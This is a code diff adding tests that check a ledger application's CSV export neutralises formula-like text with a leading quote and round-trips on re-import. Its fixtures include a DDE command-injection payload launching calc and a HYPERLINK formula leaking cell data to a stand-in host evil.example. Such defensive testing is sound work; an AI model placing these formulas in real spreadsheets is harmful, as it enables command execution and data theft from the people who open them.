@@ -157,3 +157,37 @@ def test_report_json_equals_the_cli_and_every_format_has_its_type(db, app, sup, 
     assert 'filename="annual-2025.pdf"' in pdf.headers["content-disposition"]
     text = "".join(p.extract_text() for p in PdfReader(io.BytesIO(pdf.content)).pages).replace("\n", "")
     assert SEED_SENTENCE in text
+
+
+def test_export_as_csv_marks_formula_like_text(db, app, sup, tmp_path):
+    hostile = "=cmd|' /C calc'!A0"
+    rows = [row("C-1", "2025-02-01", 申请人=hostile, 备注='=HYPERLINK("http://evil.example/?"&A1,"click")')]
+    assert sup.post(IMPORT, files=_upload(write_csv(tmp_path / "l.csv", rows))).status_code == 200
+    r = client_for(app, "leader1").get(EXPORT, params={"year": 2025, "format": "csv"})
+    assert r.status_code == 200, r.text
+    assert r.headers["content-type"] == "text/csv; charset=utf-8"
+    assert r.headers["content-disposition"].startswith('attachment; filename="ledger-2025.csv"')
+    lines = r.content.decode("utf-8-sig").splitlines()
+    assert lines[0] == ",".join(COLUMNS)
+    assert f"'{hostile}" in lines[1] and "'=HYPERLINK(" in lines[1]
+    out = tmp_path / "export.csv"
+    out.write_bytes(r.content)
+    again = sup.post(IMPORT, files=_upload(out))
+    assert (again.json()["rows"], again.json()["imported"], again.json()["unchanged"]) == (1, 0, 1)
+    bad = client_for(app, "leader1").get(EXPORT, params={"year": 2025, "format": "xls"})
+    assert bad.status_code == 422 and "format" in bad.json()["fields"]
+
+
+def test_cli_exports_csv_by_the_file_name(db, tmp_path):
+    from engine.ledger import import_file
+
+    with db.begin() as c:
+        assert import_file(c, write_csv(tmp_path / "l.csv", [row("C-1", 申请人="@SUM(1+1)")])).ok
+    out = tmp_path / "台账.csv"
+    env = {**os.environ, "TIAOJIE_DATABASE_URL": db.url}
+    proc = subprocess.run([sys.executable, "-m", "cli.main", "ledger", "export", str(out), "--year", "2025"],
+                          cwd=ROOT, env=env, capture_output=True, text=True, timeout=120)
+    assert proc.returncode == 0, proc.stderr
+    assert "1 rows written" in proc.stdout
+    assert out.read_bytes().decode("utf-8-sig").splitlines()[1].startswith("C-1,2025-03-01,")
+    assert ",'@SUM(1+1)," in out.read_text(encoding="utf-8-sig")
